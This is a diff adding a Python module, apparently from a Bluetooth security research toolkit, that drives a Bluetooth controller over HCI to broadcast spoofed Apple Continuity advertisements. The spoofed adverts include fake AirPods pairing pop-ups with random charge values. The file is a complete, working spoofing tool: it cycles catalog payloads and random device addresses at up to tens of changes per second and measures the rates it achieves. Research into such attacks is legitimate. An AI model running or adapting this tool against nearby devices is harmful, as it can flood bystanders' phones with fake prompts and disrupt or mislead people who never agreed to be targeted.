@@ -0,0 +1,363 @@
+#!/usr/bin/env python3
+# Author: Dmitry Chastuhin
+# Twitter: https://twitter.com/_chipik
+
+# web: https://hexway.io
+# Twitter: https://twitter.com/_hexway
+"""
+In-process Continuity advertiser (AirPods pop-up spoofing).
+
+ContinuityAdvertiser drives the controller directly over an HCI socket,
+so starting or stopping costs a couple of HCI commands instead of a new
+interpreter. The socket can be shared with other advertisers of the app:
+pass their open_device callable and lock, and the advertiser only reopens
+it after an error. Payload updates (random charge values) are done with
+LE Set Advertising Data while advertising stays enabled. Everything the
+advertiser reports goes to a LogRing, read by offset or streamed.
+adv_airpods.py is the command line front end.
+
+The same loop rotates payloads of the utils/continuity_payloads catalog and
+random static addresses at configurable rates, and measures the rates
+actually achieved (adverts/s, deadline jitter, HCI time per change)::
+
+    sudo python3 continuity_advertiser.py airpods beatsx nearby -r 20 -a 2
+"""
+import random
+import threading
+import time
+
+try:
+    from .utils.log_ring import LogRing
+    from .utils.continuity_payloads import random_static_address
+except ImportError:
+    # run as a script from this directory (python3 adv_airpods.py)
+    from utils.log_ring import LogRing
+    from utils.continuity_payloads import random_static_address
+
+# non-connectable undirected advertising
+ADV_NONCONN_IND = 0x03
+# in 0.625 ms units, like adv_airpods.py -i
+DEFAULT_INTERVAL = 200
+
+AIRPODS_HEAD = bytes((0x1e, 0xff, 0x4c, 0x00, 0x07, 0x19, 0x01, 0x02, 0x20, 0x75, 0xaa, 0x30, 0x01, 0x00, 0x00, 0x45))
+AIRPODS_TAIL = bytes((0xda, 0x29, 0x58, 0xab, 0x8d, 0x29, 0x40, 0x3d, 0x5c, 0x1b, 0x93, 0x3a))
+
+
+def _bluetooth_utils():
+    # needs PyBluez, so only imported once advertising is requested
+    try:
+        from .utils import bluetooth_utils
+    except ImportError:
+        from utils import bluetooth_utils
+    return bluetooth_utils
+
+
+def airpods_payload(left=None, right=None, case=None):
+    """AirPods proximity pairing advertisement; missing charge values are random."""
+    if left is None:
+        left = random.randint(1, 100)
+    if right is None:
+        right = random.randint(1, 100)
+    if case is None:
+        case = random.randint(128, 228)
+    return AIRPODS_HEAD + bytes((left, right, case)) + AIRPODS_TAIL
+
+
+class ContinuityAdvertiser(object):
+    """
+    Advertise one payload, optionally replaced every update_every seconds
+    and/or moved to a new random static address every address_every
+    seconds, all on one open socket.
+
+    open_device/close_device/lock let several advertisers share one HCI
+    socket; adapter (a utils.hci_adapter.HCIAdapter) provides all three and
+    re-applies the advertising if the controller has to be reset. By
+    default the advertiser opens hci<dev_id> itself.
+    """
+
+    def __init__(self, dev_id=0, open_device=None, close_device=None, lock=None, log=None, adapter=None):
+        if adapter is not None:
+            dev_id = adapter.dev_id
+            open_device = open_device or adapter.command_socket
+            close_device = close_device or adapter.command_failed
+            lock = lock or adapter.lock
+            adapter.add_reset_listener(self._restore)
+        self.adapter = adapter
+        self.dev_id = dev_id
+        self._open_device = open_device
+        self._close_device = close_device
+        self.lock = lock or threading.RLock()
+        self.log = log if log is not None else LogRing(500)
+
+        self.sock = None
+        self.payload = None
+        self.interval = None
+        self.adv_type = ADV_NONCONN_IND
+        self.address = None
+        self.started_at = None
+        self.update_every = None
+        self.address_every = None
+        self.updates = 0
+        self.address_changes = 0
+        self.adverts = 0
+        self.max_jitter_ms = 0.0
+        self._hci_time = 0.0
+        self._started = 0.0
+        self.last_latency_ms = {'start': None, 'stop': None}
+        self._update = None
+        self._thread = None
+        self._stop_event = None
+
+    @property
+    def is_running(self):
+        return self.payload is not None
+
+    def open_device(self):
+        if self._open_device is not None:
+            return self._open_device()
+        if self.sock is None:
+            import bluetooth._bluetooth as bluez
+            _bluetooth_utils().toggle_device(self.dev_id, True)
+            self.sock = bluez.hci_open_dev(self.dev_id)
+        return self.sock
+
+    def close_device(self):
+        if self._close_device is not None:
+            self._close_device()
+        elif self.sock is not None:
+            try:
+                self.sock.close()
+            except OSError:
+                pass
+            self.sock = None
+
+    def start(self, payload, interval=DEFAULT_INTERVAL, update=None, update_every=2.0,
+              address_every=None, adv_type=ADV_NONCONN_IND):
+        """
+        Start advertising payload (or switch to it if already advertising).
+
+        :param update: Optional callable returning the next payload, called
+            every update_every seconds from a background thread.
+        :param address_every: Also advertise from a new random static
+            address every address_every seconds (None: controller address).
+        :returns: True on success; errors are logged.
+        """
+        started = time.perf_counter()
+        self._stop_updates()
+        bt = _bluetooth_utils()
+        with self.lock:
+            if self.adapter is not None:
+                try:
+                    # legacy commands: refused while the controller does extended advertising
+                    self.adapter.claim_advertising(self)
+                except Exception as e:
+                    self.log.error('Cannot start advertising: %r' % (e,))
+                    return False
+            try:
+                sock = self.open_device()
+                if (self.payload is not None and self.interval == interval and self.address is None
+                        and not address_every and self.adv_type == adv_type):
+                    bt.set_le_advertising_data(sock, payload)
+                else:
+                    if self.payload is not None:
+                        bt.stop_le_advertising(sock)
+                    self.address = None
+                    self._enable(bt, sock, payload, interval, adv_type, bool(address_every))
+            except Exception as e:
+                self.log.error('Cannot start advertising: %r' % (e,))
+                self.payload = None
+                self._release()
+                # the socket may be dead, reopen it next time
+                self.close_device()
+                return False
+            self.payload = payload
+            self.interval = interval
+            self.adv_type = adv_type
+            self.started_at = time.time()
+            self.updates = 0
+            self.address_changes = 0
+            self.adverts = 1
+            self.max_jitter_ms = 0.0
+            self._hci_time = 0.0
+            self._started = time.monotonic()
+
+        self.update_every = update_every if update is not None else None
+        self.address_every = address_every or None
+        if update is not None or address_every:
+            self._update = update
+            self._stop_event = threading.Event()
+            self._thread = threading.Thread(target=self._run_updates, args=(self._stop_event,))
+            self._thread.daemon = True
+            self._thread.start()
+        self.last_latency_ms['start'] = (time.perf_counter() - started) * 1000
+        self.log.write('Start advertising %s every %.1f ms%s (%.1f ms)'
+                       % (payload.hex(), interval * 0.625,
+                          ' from %s' % self.address.hex(':') if self.address else '',
+                          self.last_latency_ms['start']))
+        return True
+
+    def _release(self):
+        if self.adapter is not None:
+            self.adapter.release_advertising(self)
+
+    def _enable(self, bt, sock, payload, interval, adv_type, random_address):
+        """(Re)enable advertising, from a new random static address if asked (advertising off)."""
+        own_type = bt.LE_PUBLIC_ADDRESS
+        if random_address:
+            self.address = random_static_address()
+            bt.set_le_random_address(sock, self.address)
+            own_type = bt.LE_RANDOM_ADDRESS
+        bt.start_le_advertising(sock, adv_type=adv_type, min_interval=interval, max_interval=interval,
+                                data=payload, own_bdaddr_type=own_type)
+
+    def _restore(self, sock):
+        # the controller was reset: advertise again (from a new address if rotating)
+        if self.payload is not None:
+            self._enable(_bluetooth_utils(), sock, self.payload, self.interval, self.adv_type,
+                         self.address is not None)
+
+    def _run_updates(self, stop_event):
+        """
+        Replace the payload and/or the address on absolute deadlines (no
+        drift), and measure the rate actually achieved.
+        """
+        bt = _bluetooth_utils()
+        update, update_every, address_every = self._update, self.update_every, self.address_every
+        # log every change only at human rates
+        verbose = min(update_every or 1e9, address_every or 1e9) >= 1.0
+        now = time.monotonic()
+        next_update = now + update_every if update is not None else None
+        next_address = now + address_every if address_every else None
+        next_report = now + 5.0
+        while True:
+            deadline = min(d for d in (next_update, next_address) if d is not None)
+            if stop_event.wait(max(0.0, deadline - time.monotonic())):
+                return
+            now = time.monotonic()
+            jitter = (now - deadline) * 1000
+            new_payload = next_update is not None and now >= next_update
+            new_address = next_address is not None and now >= next_address
+            payload = update() if new_payload else None
+            with self.lock:
+                if stop_event.is_set() or self.payload is None:
+                    return
+                payload = payload or self.payload
+                started = time.perf_counter()
+                try:
+                    sock = self.open_device()
+                    if new_address:
+                        bt.stop_le_advertising(sock)
+                        self._enable(bt, sock, payload, self.interval, self.adv_type, True)
+                    else:
+                        bt.set_le_advertising_data(sock, payload)
+                except Exception as e:
+                    self.log.error('Cannot update advertising: %r' % (e,))
+                    self.close_device()
+                else:
+                    self._hci_time += time.perf_counter() - started
+                    self.payload = payload
+                    self.adverts += 1
+                    self.updates += new_payload
+                    self.address_changes += new_address
+                    self.max_jitter_ms = max(self.max_jitter_ms, jitter)
+                    if verbose:
+                        self.log.write('Advertising %s%s' % (payload.hex(), ' from %s' % self.address.hex(':')
+                                                             if new_address else ''))
+            # skip missed deadlines instead of bursting to catch up
+            if new_payload:
+                next_update = max(next_update + update_every, now)
+            if new_address:
+                next_address = max(next_address + address_every, now)
+            if not verbose and now >= next_report:
+                next_report = now + 5.0
+                stats = self.rates()
+                self.log.write('%(adverts_per_sec).1f adverts/s (%(payloads_per_sec).1f payloads/s, '
+                               '%(addresses_per_sec).1f addresses/s, max jitter %(max_jitter_ms).1f ms)' % stats)
+
+    def _stop_updates(self):
+        if self._stop_event is not None:
+            self._stop_event.set()
+        self._stop_event = None
+        self._thread = None
+        self._update = None
+
+    def stop(self):
+        """Stop advertising; returns False if it was not running."""
+        started = time.perf_counter()
+        self._stop_updates()
+        with self.lock:
+            if self.payload is None:
+                return False
+            self.payload = None
+            self._release()
+            try:
+                _bluetooth_utils().stop_le_advertising(self.open_device())
+            except Exception as e:
+                self.log.error('Cannot stop advertising: %r' % (e,))
+                self.close_device()
+        self.last_latency_ms['stop'] = (time.perf_counter() - started) * 1000
+        self.log.write('Advertising stopped (%.1f ms)' % self.last_latency_ms['stop'])
+        return True
+
+    def rates(self):
+        """Rates achieved since start(): distinct advertisements put on air per second."""
+        elapsed = time.monotonic() - self._started if self.payload is not None else 0.0
+        changes = self.adverts - 1
+        return {
+            'elapsed': round(elapsed, 1),
+            'adverts_per_sec': round(self.adverts / elapsed, 2) if elapsed else 0.0,
+            'payloads_per_sec': round(self.updates / elapsed, 2) if elapsed else 0.0,
+            'addresses_per_sec': round(self.address_changes / elapsed, 2) if elapsed else 0.0,
+            'target_payloads_per_sec': round(1.0 / self.update_every, 2) if self.update_every else None,
+            'target_addresses_per_sec': round(1.0 / self.address_every, 2) if self.address_every else None,
+            'max_jitter_ms': round(self.max_jitter_ms, 2),
+            'hci_ms': round(self._hci_time * 1000 / changes, 3) if changes else None,
+        }
+
+    def status(self):
+        payload = self.payload
+        return {
+            'running': payload is not None,
+            'payload': payload.hex() if payload is not None else None,
+            'address': self.address.hex(':') if payload is not None and self.address else None,
+            'interval_ms': self.interval * 0.625 if payload is not None else None,
+            'rotating': self._stop_event is not None,
+            'updates': self.updates,
+            'address_changes': self.address_changes,
+            'started_at': self.started_at if payload is not None else None,
+            'start_latency_ms': self.last_latency_ms['start'],
+            'stop_latency_ms': self.last_latency_ms['stop'],
+            'log_seq': self.log.seq,
+            **self.rates()
+        }
+
+
+if __name__ == '__main__':
+    import argparse
+    try:
+        from utils.continuity_payloads import CATALOG, cycle
+    except ImportError:
+        from .utils.continuity_payloads import CATALOG, cycle
+
+    parser = argparse.ArgumentParser(description='Rotate spoofed Continuity advertisements')
+    parser.add_argument('payloads', nargs='+', choices=sorted(CATALOG), help='Catalog entries to cycle through')
+    parser.add_argument('-r', '--rate', default=10.0, type=float, help='Payload changes per second')
+    parser.add_argument('-a', '--address-rate', default=0.0, type=float,
+                        help='Random static address changes per second (0: keep the controller address)')
+    parser.add_argument('-i', '--interval', default=0x20, type=int, help='Advertising interval (0.625 ms units)')
+    args = parser.parse_args()
+
+    next_payload = cycle(args.payloads)
+    advertiser = ContinuityAdvertiser(log=LogRing(100, echo=True))
+    if not advertiser.start(next_payload(), interval=args.interval, update=next_payload,
+                            update_every=1.0 / args.rate,
+                            address_every=1.0 / args.address_rate if args.address_rate else None):
+        raise SystemExit(1)
+    try:
+        while True:
+            time.sleep(1)
+    except KeyboardInterrupt:
+        pass
+    finally:
+        print(advertiser.rates())
+        advertiser.stop()